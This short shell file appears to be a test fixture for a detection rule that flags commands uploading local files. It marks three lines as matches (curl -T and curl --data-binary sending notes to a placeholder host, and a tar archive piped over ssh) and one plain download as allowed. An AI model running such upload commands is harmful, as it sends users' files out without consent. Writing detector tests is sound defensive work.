#!/bin/sh
# ruleid: uploads-by-command
curl -s -T "$HOME/notes" http://drop.invalid/
# ruleid: uploads-by-command
curl --data-binary @notes http://drop.invalid/
# ok: uploads-by-command
curl -fsSL --retry 3 -o notes http://files.invalid/notes
# ruleid: uploads-by-command
tar cz words | ssh drop@c.invalid "cat > a"
